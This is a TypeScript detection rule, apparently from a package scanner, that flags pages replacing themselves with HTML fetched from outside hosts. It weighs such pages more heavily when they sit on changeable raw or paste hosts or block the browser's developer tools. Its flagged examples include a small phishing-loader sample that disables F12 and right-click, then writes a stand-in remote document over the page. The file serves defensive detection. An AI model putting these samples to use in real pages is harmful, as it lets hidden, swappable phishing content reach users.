import { type Stranger, strangerBehind } from '../src/define/strangers.js';
import { beacons, defineRule, spelling, step, stepsOf } from '../src/define.js';
import type { AnyNode, FileContext, Label } from '../src/types.js';
import { oddRelease } from '../src/vocabulary/services.js';

export default defineRule({
  meta: {
    summary: 'Puts a document of a stranger in the place of its page',
    why: 'A page that is empty but for a script that fetches another one shows whatever its author puts there later: a sign-in form of somebody’s bank, once the package is everywhere. Whole pages come from the server of the page, or from where the caller says; widgets fill an element of their own; and no page of a project keeps its readers from looking at it.',
    behaviour: 'execution',
    behaviours: { shut: 'gate' },
    messages: {
      written: 'Fetches a document from {host} and shows it in the place of its page',
      changing:
        'Fetches a document from {host}, where anybody leaves files that may change, and shows it in the place of its page',
      framed: 'Fetches a document from {host} and shows it in a frame',
      shut: 'Keeps the tools of the browser shut, where it shows a document of {host}',
    },
    bits: { written: 6, changing: 8, framed: 2.5, shut: 3.5 },
  },
  examples: {
    flags: [
      {
        title: 'a page writes a file of somebody’s repository over itself',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.html"}',
          'index.html': `<body><script>\nconst from = 'https://files.invalid/someone/pages/raw/main/site';\ndocument.addEventListener('contextmenu', e => e.preventDefault());\ndocument.addEventListener('keydown', e => { if (e.key === 'F12') e.preventDefault(); });\naddEventListener('mousemove', async () => {\n  const html = await (await fetch(from + '?' + Date.now())).text();\n  document.open(); document.write(html); document.close();\n}, { once: true });\n</script></body>`,
        },
      },
      {
        title: 'the body is what a server answers',
        code: `const asked = new XMLHttpRequest();\nasked.open('GET', 'https://pages.invalid/next');\nasked.onload = () => { document.documentElement.innerHTML = asked.responseText; };\nasked.send();`,
      },
      {
        title: 'the page goes to a document that it made of an answer',
        code: `document.oncontextmenu = () => false;\ndocument.onkeydown = e => { if (e.keyCode === 123) return false; };\nfetch('https://raw.pages.invalid/x.html').then(r => r.text()).then(html => { window.location.href = URL.createObjectURL(new Blob([html], { type: 'text/html' })); });`,
      },
      {
        title: 'a frame shows it',
        code: `fetch('https://pages.invalid/next').then(r => r.text()).then(html => { document.querySelector('iframe').srcdoc = html; });`,
      },
    ],
    passes: [
      {
        title: 'a page is loaded from the server of the page',
        code: `fetch('/next').then(r => r.text()).then(html => { document.open(); document.write(html); document.close(); });`,
      },
      {
        title: 'the caller says which page is shown',
        code: `export const show = async url => { document.body.innerHTML = await (await fetch(url)).text(); };`,
      },
      {
        title: 'a widget fills its own element',
        code: `fetch('https://widgets.invalid/box').then(r => r.text()).then(html => { document.getElementById('box').innerHTML = html; });`,
      },
      {
        title: 'a page of the project comes from the project’s own site',
        files: {
          'package.json': '{"name":"pagekit","version":"1.0.0","main":"index.js"}',
          'index.js': `fetch('https://app.pagekit.invalid/a.html').then(r => r.text()).then(html => { document.body.innerHTML = html; });`,
        },
      },
      {
        title: 'a game keeps its own keys, and shows nothing of others',
        code: `document.addEventListener('contextmenu', e => e.preventDefault());\ndocument.addEventListener('keydown', e => { if (e.key === 'F12') e.preventDefault(); });\ndocument.write('<canvas></canvas>');`,
      },
    ],
  },
  file(context) {
    for (const { node, value, isFrame } of shown(context)) {
      const label = context.labelsOf(value).find(({ kind }) => kind === 'remote');
      const stranger = label && strangerBehind(context, label);
      if (!label || !stranger) continue;
      const { host } = stranger;
      context.report({
        messageId: isFrame ? 'framed' : isChanging(stranger) ? 'changing' : 'written',
        data: { host },
        chain: chainOf(context, stranger, label, node),
      });
      const shut = shutIn(context);
      if (!shut) return;
      context.report({
        messageId: 'shut',
        data: { host },
        chain: [
          step('sink', 'shows a document', context.file, node),
          step('context', 'keeps the tools of the browser shut', context.file, shut),
        ],
      });
      return;
    }
  },
});

function chainOf(context: FileContext, { call }: Stranger, label: Label, node: AnyNode) {
  const asks = label.origin.node === call.node ? [] : [step('context', 'asks for it', context.file, call.node)];
  return [...asks, ...stepsOf(label), step('sink', 'shows it in the place of the page', context.file, node)];
}

interface Shown {
  readonly node: AnyNode;
  readonly value: AnyNode;
  readonly isFrame?: boolean;
}

/** Members that hold what a whole page shows. */
const WHOLE = /^document\.(?:documentElement|body|head)\.(?:inner|outer)HTML$/;
const WRITES =
  /^document\.(?:write|writeln|replaceChild|(?:documentElement|body)\.(?:replaceWith|replaceChildren|insertAdjacentHTML|setHTMLUnsafe))$/;

function shown(context: FileContext): readonly Shown[] {
  const found: Shown[] = context
    .named(WRITES)
    .flatMap(({ node, args, name }) =>
      (name.endsWith('AdjacentHTML') ? args.slice(1, 2) : args).map(value => ({ node, value })),
    );
  for (const node of context.nodes('AssignmentExpression')) {
    const { left, right } = node;
    if (left.type !== 'MemberExpression' || right.type === 'Literal') continue;
    const word = left.computed
      ? context.mayBeNamed(left.object)
        ? context.textsOf(left.property, 200)[0]
        : undefined
      : wordOf(left.property);
    if (word === 'srcdoc') found.push({ node, value: right, isFrame: true });
    else if (/^(?:inner|outer)HTML$/.test(word ?? '') && context.namesOf(left).some(name => WHOLE.test(name)))
      found.push({ node, value: right });
  }
  // `location = URL.createObjectURL(new Blob([html]))`
  for (const { node, value, name } of beacons(context)) {
    if (!/^(?:location|href|assign|replace)|location\./.test(name)) continue;
    const isMade =
      context.namesOf(value).some(one => one.startsWith('URL.createObjectURL')) ||
      context.textsOf(value).some(text => text.startsWith('data:text/html'));
    if (isMade) found.push({ node, value: madeOf(context, value) });
  }
  return found;
}

/** What an address was made of: a document, in a call or two. */
function madeOf({ labelsOf }: FileContext, value: AnyNode): AnyNode {
  let at = value;
  for (let hops = 0; hops < 4 && !labelsOf(at).some(({ kind }) => kind === 'remote'); hops++) {
    const [first] = (at as { arguments?: AnyNode[] }).arguments ?? [];
    if (!first) break;
    at = first;
  }
  return at;
}

function wordOf(property: AnyNode): string | undefined {
  return property.type === 'Identifier' ? property.name : undefined;
}

/** An address of a file in somebody's repository or of a place for notes: what lies there tomorrow is another thing. */
function isChanging({ address }: Stranger): boolean {
  return /\/raw\/|\/\/(?:raw|gist|paste)[\w.-]*\./i.test(address.slice(0, 1_000)) || oddRelease(address) !== undefined;
}

/** Where keys that open the browser's tools, or its menu, are made to do nothing. */
function shutIn(context: FileContext): AnyNode | undefined {
  const handlers = [
    ...context.named(/(?:^|\.)addEventListener$/).flatMap(({ args: [event, handler] }) => {
      const texts = event ? context.textsOf(event) : [];
      return handler && texts.some(text => /^key(?:down|up|press)$/.test(text)) ? [handler] : [];
    }),
    ...context
      .nodes('AssignmentExpression')
      .flatMap(({ left, right }) =>
        left.type === 'MemberExpression' && /^onkey/.test(wordOf(left.property) ?? '') ? [right] : [],
      ),
  ];
  return handlers.find(handler => {
    const written = spelling(context.file, handler).slice(0, 4_000);
    return /\bF12\b|\b123\b/.test(written) && /preventDefault|return\s*(?:false|!1)/.test(written);
  });
}
